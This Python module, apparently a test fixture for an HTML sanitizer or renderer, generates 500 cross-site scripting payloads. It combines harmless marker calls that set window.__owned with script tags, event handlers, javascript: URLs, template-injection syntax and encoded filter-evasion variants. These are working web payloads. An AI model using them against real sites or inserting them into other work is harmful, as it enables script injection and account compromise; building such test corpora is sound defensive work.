"""500 payloads that try to become markup, script, a link or a style in somebody's browser."""

import itertools

MARK = "__owned"
"""What a script of theirs would set on the window."""

_CALLS = (
    f"window.{MARK}=1",
    f"top.{MARK}=1",
    f"self['{MARK}']=1",
    f"Function('window.{MARK}=1')()",
    f"eval(atob('d2luZG93Ll9fb3duZWQ9MQ=='))//{MARK}",
)
_WRAPS = (
    "<script>{0}</script>",
    "</script><script>{0}</script>",
    '"><script>{0}</script>',
    "'><img src=x onerror={0}>",
    '<img src=x onerror="{0}">',
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<body onload={0}>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    '<iframe src="javascript:parent.{0}"></iframe>',
    '<a href="javascript:{0}" autofocus onfocus={0}>x</a>',
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "\tjava\nscript:{0}",
    "data:text/html,<script>{0}</script>",
    "<details open ontoggle={0}>x</details>",
    "<input autofocus onfocus={0}>",
    "<video><source onerror={0}></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror={0}>",
    "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    '<object data="javascript:{0}">',
    '<embed src="javascript:{0}">',
    '<form action="javascript:{0}"><button autofocus>x',
    '<meta http-equiv=refresh content="0;url=javascript:{0}">',
    '<base href="javascript:{0}//">',
    '<link rel=stylesheet href="data:text/css,*{{background:url(javascript:{0})}}">',
    "<style>@import 'javascript:{0}';</style>",
    '<div style="background:url(javascript:{0})">',
    "{{{{constructor.constructor('{0}')()}}}}",
    "${{{0}}}",
    "#{{{0}}}",
    "<%= {0} %>",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "%3Cscript%3E{0}%3C/script%3E",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<!--><script>{0}</script-->",
    "<![CDATA[<script>{0}</script>]]>",
    "<x onpointerenter={0} style=position:fixed;inset:0>",
    "<img/src=x/onerror={0}>",
    "<img src=x: onerror\u2028={0}>",
    "\u202e<script>{0}</script>",
    '=HYPERLINK("javascript:{0}")',
    '<portal src="javascript:{0}">',
    "<marquee onstart={0}>x</marquee>",
    "<audio src=x onerror={0}>",
    "<select autofocus onfocus={0}>",
)

PAYLOADS = tuple(
    itertools.islice(
        (
            text
            for end in ("", " ", "'", '"', "`")
            for call in _CALLS
            for wrap in _WRAPS
            if (text := wrap.format(call) + end)
        ),
        500,
    )
)
